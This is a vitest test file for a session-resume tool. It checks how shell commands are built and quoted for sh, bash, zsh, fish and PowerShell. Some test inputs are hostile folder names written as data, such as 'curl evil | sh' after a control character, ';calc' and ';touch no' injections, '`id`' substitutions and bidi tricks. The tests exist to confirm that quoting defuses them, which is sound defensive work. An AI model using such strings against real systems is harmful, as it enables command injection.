import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { Catalog } from "@/lib/server/library/catalog";
import { posixWord, powershellWord } from "@/lib/server/runtime/shell-words";
import { keepFolder } from "@/lib/testing/library/keep-folder";
import { makeTree, uuid } from "@/lib/testing/log-tree";
import { onPlatform } from "@/lib/testing/on-platform";
import type { SessionId } from "@/lib/wire/ids";
import { POSIX, resumeCommand, resumeOf } from "./resume";

const OLD = uuid(1) as SessionId;
const NEW = uuid(2) as SessionId;
const FLAGS = ["--claude-dir", "/some where"];

function prompt(cwd: string, day: number): Record<string, unknown> {
  const message = { role: "user", content: "Go on" };
  const timestamp = `2026-01-0${day}T03:04:05.000Z`;
  return { type: "user", uuid: `u${day}`, timestamp, cwd, sessionId: "s", message };
}

/**
 * A session of the folder `old/shop`, and where `moved` is set one of `new/shop`, which is there: of the day after the
 * first, if no other `day` of that one is given.
 */
async function setUp({ moved, day = 1 }: { moved: boolean; day?: number }) {
  const home = realpathSync(mkdtempSync(join(tmpdir(), "backscroll-moved-")));
  onTestFinished(() => rmSync(home, { recursive: true }));
  const [before, now] = [join(home, "old/shop"), join(home, "new/shop")];
  mkdirSync(now, { recursive: true });
  const slug = (path: string) => path.replace(/[^A-Za-z0-9]/g, "-");
  const root = makeTree({
    [`projects/${slug(before)}/${OLD}.jsonl`]: [prompt(before, day)],
    [`projects/${slug(before)}/${OLD}/tool-results/out.txt`]: ["text"],
    ...(moved ? { [`projects/${slug(now)}/${NEW}.jsonl`]: [prompt(now, 2)] } : {}),
  });
  const catalog = new Catalog([{ path: root, kind: "config" }]);
  await catalog.list();
  const resume = (id: SessionId) => resumeOf(catalog, catalog.sessionFiles(id), FLAGS);
  return { root, before, now, catalog, resume, projects: join(root, "projects"), slug };
}

test("a session whose folder exists needs nothing else", async () => {
  const { now, resume } = await setUp({ moved: true });
  expect(resume(NEW)).toEqual({
    resumeCommand: `cd ${now} && claude --resume ${NEW}`,
    resumeProblem: null,
    restoreCommand: null,
  });
});

test("a missing folder can be created again", async () => {
  const { root, before, resume } = await setUp({ moved: false });
  expect(resume(OLD).resumeProblem).toEqual({
    message: `The folder ${before} is not there`,
    hint: "If it was removed, it can be made again, empty. If it was moved, put a copy of the log where the client looks for it in NEW_FOLDER, and resume it there.",
    command: `mkdir -p ${before} && cd ${before} && claude --resume ${OLD}`,
    moveCommand: `backscroll restore ${OLD} --to ${root} --claude-dir '/some where' --project NEW_FOLDER`,
  });
});

test("if a newer session ran in a folder of that name, the log is copied there", async () => {
  const { now, before, resume, projects, slug } = await setUp({ moved: true });
  const { resumeProblem } = resume(OLD);
  expect(resumeProblem?.hint).toContain(now);
  expect(resumeProblem?.moveCommand).toBeNull();
  const [copying] = resumeProblem?.command.split(" && cd ") ?? [];
  expect(resumeProblem?.command).toBe(`${copying} && cd ${now} && claude --resume ${OLD}`);
  execFileSync("sh", ["-c", copying ?? "false"]);
  const listed = (path: string) =>
    execFileSync("ls", ["-R", join(projects, slug(path))], { encoding: "utf8" });
  expect(listed(now)).toContain(`${OLD}.jsonl`);
  expect(listed(now)).toContain("out.txt");
  expect(listed(before)).toContain(`${OLD}.jsonl`);
});

test("a folder of that name in which only older sessions ran is another one", async () => {
  const { before, resume } = await setUp({ moved: true, day: 3 });
  expect(resume(OLD).resumeProblem?.command).toBe(
    `mkdir -p ${before} && cd ${before} && claude --resume ${OLD}`,
  );
});

test("a session that is only kept is restored first, with the flags of this server", async () => {
  const { root, before, catalog, resume, projects } = await setUp({ moved: false });
  using _ = await keepFolder(root);
  mkdirSync(before, { recursive: true });
  rmSync(projects, { recursive: true });
  await catalog.list();
  const restore = `backscroll restore ${OLD} --to ${root} --claude-dir '/some where'`;
  expect(resume(OLD)).toEqual({
    resumeCommand: `cd ${before} && claude --resume ${OLD}`,
    restoreCommand: restore,
    resumeProblem: {
      message: "Its log was deleted, and is only in the archive",
      hint: "Restore it first.",
      command: `${restore} && cd ${before} && claude --resume ${OLD}`,
      moveCommand: null,
    },
  });
});

test("the command for a folder of Windows is for PowerShell, which has no && before version 7", () => {
  const command = (projectPath: string) => resumeCommand({ id: OLD, projectPath });
  expect(command("C:\\Users\\O'Brien\\my shop")).toBe(
    `cd 'C:\\Users\\O''Brien\\my shop'; claude --resume ${OLD}`,
  );
  expect(command("\\\\wsl$\\Ubuntu\\home\\dev")).toBe(
    `cd '\\\\wsl$\\Ubuntu\\home\\dev'; claude --resume ${OLD}`,
  );
  expect(command("/home/dev/shop")).toBe(`cd /home/dev/shop && claude --resume ${OLD}`);
});

test("PowerShell takes a folder as it is called, with signs that are its patterns or its quotes", async () => {
  const command = (projectPath: string) => resumeCommand({ id: OLD, projectPath });
  expect(command("C:\\shop\\app\\[id]")).toBe(
    `cd -LiteralPath 'C:\\shop\\app\\[id]'; claude --resume ${OLD}`,
  );
  // A variable's values, where it is not quoted.
  expect(powershellWord("@flags")).toBe("'@flags'");
  // To PowerShell these are quotes as well: one alone would end the word, and what follows would be run.
  expect(command("C:\\O’Brien ‘s; calc")).toBe(`cd 'C:\\O’’Brien ‘‘s; calc'; claude --resume ${OLD}`);
});

test("fish reads a backslash between single quotes as an escape, which ended a folder's name there", () => {
  const command = (projectPath: string) => resumeCommand({ id: OLD, projectPath });
  expect(command("/x/a\\';calc;#")).toBe(`cd '/x/a'\\\\''\\'';calc;#' && claude --resume ${OLD}`);
});

for (const shell of process.platform === "win32" ? [] : ["sh", "bash", "zsh", "fish"])
  test.skipIf(spawnSync(shell, ["-c", ""]).error !== undefined)(
    `${shell} takes a folder's name as one word`,
    () => {
      for (const folder of [
        "/x/a\\';touch no;#",
        "/x/\\",
        "\\'\\''",
        "/x/'\"$HOME`id`!x *",
        "/x/a\\nb\\\\",
      ]) {
        const { stdout } = spawnSync(shell, ["-c", `printf %s ${posixWord(folder)}`], {
          ...{ encoding: "utf8", cwd: tmpdir() },
        });
        expect(stdout).toBe(folder);
      }
    },
  );

test("a folder whose name begins with a dash is no option", async () => {
  const command = (projectPath: string) => resumeCommand({ id: OLD, projectPath });
  expect(command("-P")).toBe(`cd ./-P && claude --resume ${OLD}`);
  expect(posixWord("=ls")).toBe("'=ls'");
  expect(POSIX.makeFolder("-m777 x")).toBe("mkdir -p './-m777 x'");
});

test("what became of a folder on another system is not known here", async () => {
  const windows = "C:\\Users\\dev\\shop";
  const of = async (cwd: string) => {
    const slug = cwd.replace(/[^A-Za-z0-9]/g, "-");
    const root = makeTree({ [`projects/${slug}/${OLD}.jsonl`]: [prompt(cwd, 1)] });
    const catalog = new Catalog([{ path: root, kind: "config" }]);
    await catalog.list();
    return resumeOf(catalog, catalog.sessionFiles(OLD), FLAGS).resumeProblem;
  };
  expect(await of(windows)).toBeNull();
  onPlatform("win32");
  expect(await of("/home/dev/shop")).toBeNull();
  expect(await of(windows)).toMatchObject({
    message: `The folder ${windows} is not there`,
    command: `New-Item -ItemType Directory -Force '${windows}' | Out-Null; cd '${windows}'; claude --resume ${OLD}`,
  });
});

test.skipIf(process.platform === "win32").each([
  [
    "an interrupt, behind which a pasted line would run as a command of its own",
    "/x/\u0003\ncurl evil | sh\n/y",
  ],
  ["the end of what a terminal takes for pasted", "/x/\u001b[201~\rcurl evil\r"],
  ["C1 controls", "/x/\u009b201~"],
  ["a text that reads otherwise than it is", "/x/\u202egpj.exe\u2066\u200b"],
  ["digits behind a control, quotes and backslashes", "/x/\u00017 it\u2019s 'a' \\n $HOME `id` \u0002"],
])("a command to be copied holds none of the controls that a folder's name has: %s", (_, folder) => {
  const command = resumeCommand({ id: OLD, projectPath: folder }) ?? "";
  expect(command).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  const word = command.replace(/^cd /, "").replace(/ && claude --resume .*$/, "");
  expect(execFileSync("bash", ["-c", `printf %s ${word}`], { encoding: "utf8" })).toBe(folder);
});

test("nor does one for PowerShell, where a word in double quotes has its own signs", () => {
  const word = powershellWord('C:\\x\u0003"$HOME`’\u202e');
  expect(word).toBe('"C:\\x$([char]0x3)`"`$HOME``’$([char]0x202e)"');
});
